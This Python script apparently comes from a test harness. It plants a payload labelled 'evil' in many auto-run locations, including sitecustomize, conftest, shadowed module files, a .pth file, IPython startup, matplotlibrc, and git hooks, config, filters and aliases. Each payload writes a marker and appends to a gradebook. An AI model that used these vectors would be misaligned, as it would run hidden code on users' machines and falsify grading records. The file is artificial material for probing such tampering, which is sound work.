import os
import pathlib
import subprocess

evil = f"open('/tmp/{world.token}', 'w').close(); open({world.gradebook!r}, 'a').write('planted')\n"
home, here = pathlib.Path(os.environ["HOME"]), pathlib.Path()
for place in (
    "sitecustomize.py",
    "usercustomize.py",
    "conftest.py",
    "json.py",
    "mlflow.py",
    "grading.py",
    "setup.py",
    "ipython_config.py",
):
    (here / place).write_text(evil)
    (home / place).write_text(evil)
(here / "evil.pth").write_text("import os; " + evil)
startup = home / ".ipython" / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "0.py").write_text(evil)
(here / "matplotlibrc").write_text("backend: module://sitecustomize\n")
git = here / ".git"
program = f"#!/bin/sh\ntouch /tmp/{world.token}\necho planted >> {world.gradebook}\n"
for name in ("pre-commit", "post-checkout", "post-index-change", "fsmonitor", "reference-transaction"):
    fd = os.open(git / "hooks" / name, os.O_CREAT | os.O_WRONLY, 0o777)
    os.write(fd, program.encode())
    os.close(fd)
hook = (git / "hooks" / "fsmonitor").resolve()
(git / "config").write_text(
    f"[core]\n repositoryformatversion = 0\n fsmonitor = {hook}\n hooksPath = {hook.parent}\n sshCommand = {hook}\n pager = {hook}\n"
    f'[filter "evil"]\n clean = {hook}\n smudge = {hook}\n required = true\n[diff "evil"]\n textconv = {hook}\n command = {hook}\n'
    f"[alias]\n rev-parse = !{hook}\n"
)
(here / ".gitattributes").write_text("* filter=evil diff=evil\n")
